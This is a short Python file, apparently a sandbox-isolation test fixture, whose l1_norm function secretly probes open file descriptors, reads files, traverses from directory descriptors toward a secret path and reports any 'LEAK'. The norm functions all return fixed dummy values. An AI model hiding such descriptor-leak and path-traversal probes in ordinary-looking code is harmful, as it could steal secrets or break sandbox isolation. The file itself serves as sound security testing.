"""Uses descriptors that were left open beside its own channel; to get anything is a breach."""
# Unit: norms

import contextlib
import os
import socket
import stat

import torch

MARKER = "@MARKER@"
SECRET = "@SECRET@"


def leak(what):
    """Say that the attack got what it wanted."""
    text = "LEAK" + "! " + str(what)[:200]
    with contextlib.suppress(OSError), open(MARKER, "a") as file:
        file.write(text + "\n")
    print(text)
    raise RuntimeError(text)


def content_of(fd):
    """Return what a descriptor gives away: text, or nothing."""
    mode = os.fstat(fd).st_mode
    if stat.S_ISREG(mode):
        return os.pread(fd, 100, 0)
    if stat.S_ISDIR(mode):
        inside = os.open("../" * 20 + SECRET.lstrip("/"), os.O_RDONLY, dir_fd=fd)
        return os.read(inside, 100)
    if stat.S_ISSOCK(mode):
        with socket.socket(fileno=os.dup(fd)) as found:
            if found.type == socket.SOCK_SEQPACKET:
                return b"a control socket"
    return b""


def attempt():
    """Try every descriptor but the three standard ones and the channel."""
    for fd in range(4, 256):
        try:
            content = content_of(fd)
        except OSError:
            continue
        if content:
            leak(content)


def l1_norm(x):
    attempt()
    return torch.tensor(0.5)


def l2_norm(x):
    return torch.tensor(0.5)


def cosine_similarity(b, c, eps=1e-8):
    return torch.tensor(0.5)
